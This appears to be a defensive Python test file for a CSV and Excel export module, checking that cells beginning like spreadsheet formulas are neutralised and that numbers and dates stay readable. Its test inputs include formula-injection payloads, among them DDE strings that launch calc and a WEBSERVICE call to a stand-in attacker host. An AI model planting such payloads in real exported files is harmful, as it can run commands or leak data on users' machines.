"""Tables leave the mission as CSV and Excel, and no cell becomes a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from waystation.foundation.documents import blocks, tables
from waystation.foundation.shared.errors import Refusal

COLUMNS = [blocks.Column("Centre"), blocks.Column("People", "number"), blocks.Column("On", "date")]
TABLE = blocks.Table(
    "People served",
    COLUMNS,
    [["MSC Prishtinë", 1234, date(2026, 9, 20)], ["=1+1", blocks.Hidden("fewer than 5"), None]],
    source="Visit records",
    as_of=date(2026, 9, 30),
    total=["Total", 1236, None],
)


def read_csv(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_has_header_rows_total_and_the_notes():
    rows = read_csv(tables.csv(TABLE))

    assert rows[0] == ["Centre", "People", "On"]
    assert rows[1] == ["MSC Prishtinë", "1234", "2026-09-20"]
    assert rows[2] == ["'=1+1", "fewer than 5", ""]
    assert rows[3] == ["Total", "1236", ""]
    assert ["Source: Visit records"] in rows
    assert "1244" in rows[-1][0]


@given(st.text(max_size=60))
def test_no_cell_of_a_csv_starts_like_a_formula(text):
    table = blocks.Table("T", [blocks.Column("a")], [[text]])

    rows = read_csv(tables.csv(table, notes=False))

    cell = rows[1][0] if len(rows) > 1 and rows[1] else ""
    assert not cell.startswith(("=", "@", "\t", "\r", "\n"))
    assert not cell.startswith(("+", "-")) or tables.PLAIN_NUMBER.fullmatch(cell)


@pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_known_attacks_are_defused(text):
    found = tables.safe(text)

    assert found.startswith("'")
    assert found.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text",
    [
        "-5", "+38344123456", "12%", "Arta", "-.5", "-5.", "-1.5E-3", "-13.5 -8.25 0 5",
        "-13.5 -8.25", "-13.5 -8.25 0 5; -13.6 -8.3 0 4.5", "-1 2 0 0;-3 4 0 0;",
    ],
)  # fmt: skip
def test_plain_text_numbers_and_coordinates_are_unchanged(text):
    assert tables.safe(text) == text


@pytest.mark.parametrize(
    "text", ["-1 =1", "-5-3", "-1 2;=1", "+1 A1", "-1e", "-1 2 3 4 5", "-1 2;;@x", "-", "+."]
)
def test_text_that_only_begins_like_a_number_is_defused(text):
    found = tables.safe(text)

    assert found.startswith("'")
    assert found.replace("'", "") == text


PARTS = st.sampled_from(
    ["", "Arta", "34", "2026-11-29", "-13.5 -8.25 0 5", "+383 44 123 456", "a, b", ", -1", "; =1",
     ";  -f(x)", '"', "\r", "\n", "\t", "\x00", "=", "@", "＝1", " ", "ë", "x" * 32_001]
)  # fmt: skip
CELLS = st.lists(PARTS, max_size=4).map("".join)


@given(st.lists(st.lists(CELLS, max_size=5), max_size=4))
@example([["a", "b"], ["=1", "x, y"], [""], []])
def test_lines_written_at_once_are_those_of_the_standard_library_cell_by_cell(rows):
    expected = io.StringIO()
    csv.writer(expected).writerows([[tables.safe(cell) for cell in row] for row in rows])

    assert tables.csv_lines(rows) == expected.getvalue()


@given(CELLS)
def test_a_cell_that_is_safe_at_first_sight_is_what_the_whole_check_leaves(text):
    whole = text.replace("\x00", "")[: tables.LONGEST_CELL]
    if not tables.PLAIN_NUMBER.fullmatch(whole):
        whole = tables.SECOND_START.sub(r"\1'", whole)
        whole = "'" + whole if whole.startswith(tables.FORMULA_STARTS) else whole

    assert tables.safe(text) == whole


def test_an_excel_sheet_opens_with_title_notes_and_numbers():
    book = CalamineWorkbook.from_filelike(io.BytesIO(tables.xlsx([TABLE, TABLE])))

    rows = book.get_sheet_by_index(0).to_python()

    assert book.sheet_names == ["People served", "People served 2"]
    assert rows[0][0] == "People served"
    assert any("1244" in str(row[0]) for row in rows)
    head = rows.index(["Centre", "People", "On"])
    assert rows[head + 1] == ["MSC Prishtinë", 1234, date(2026, 9, 20)]
    assert rows[head + 2][0] == "=1+1"  # text, as it was typed


def test_text_in_excel_never_becomes_a_formula_or_a_link():
    import zipfile

    table = blocks.Table("T", [blocks.Column("a")], [["=1+1"], ["http://example.org"], ["{=1}"]])

    book = zipfile.ZipFile(io.BytesIO(tables.xlsx([table])))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()

    assert "<f>" not in sheet
    assert "hyperlink" not in sheet


def test_a_table_with_a_row_too_short_is_refused():
    with pytest.raises(Refusal, match="as many cells"):
        blocks.Table("T", COLUMNS, [["a", 1]])


@pytest.mark.parametrize(
    ("value", "language", "written"),
    [
        (1234567, "en", "1,234,567"),
        (1234567, "sq", "1\u00a0234\u00a0567"),
        (1234.5, "sr-latn", "1.234,5"),
        (-3, "en", "−3"),
        (0, "en", "0"),
        (None, "en", "no data"),
        (date(2026, 9, 20), "sq", "20 shtator 2026"),
        (date(2026, 9, 20), "sr", "20. септембра 2026."),
    ],
)
def test_a_cell_is_written_as_the_language_writes_it(value, language, written):
    assert blocks.in_writing(value, language).casefold() == written.casefold()


@pytest.mark.parametrize(
    "text",
    [
        "＝1+1",
        "＠SUM(1)",
        "work;=HYPERLINK(A1)",
        "work; +cmd|'/C calc'!A0",
        'work\n=WEBSERVICE("https://attacker.example")',
        "work;\t@SUM(1)",
        "1;2;-cmd|'/C calc'!A0",
    ],
)
def test_no_formula_begins_for_a_program_that_parts_cells_by_semicolons_either(text):
    table = blocks.Table("T", [blocks.Column("a"), blocks.Column("b")], [["x", text]])

    line = tables.csv(table, notes=False).decode("utf-8-sig").split("\r\n", 1)[1]

    cells = re.split(r"[;\r\n]", line.replace('"', ""))
    begun = [one.strip(" \t").removeprefix("x,") for one in cells]
    assert not any(one.startswith(("=", "+", "-", "@", "＝", "＠")) for one in begun)


@pytest.mark.parametrize("text", ["one; two", "- one\n- two", "42.1 21.2; -42.1 21.0", "a-b; c=d"])
def test_text_in_which_no_formula_begins_is_as_it_was(text):
    assert tables.safe("x\n" + text) == "x\n" + text
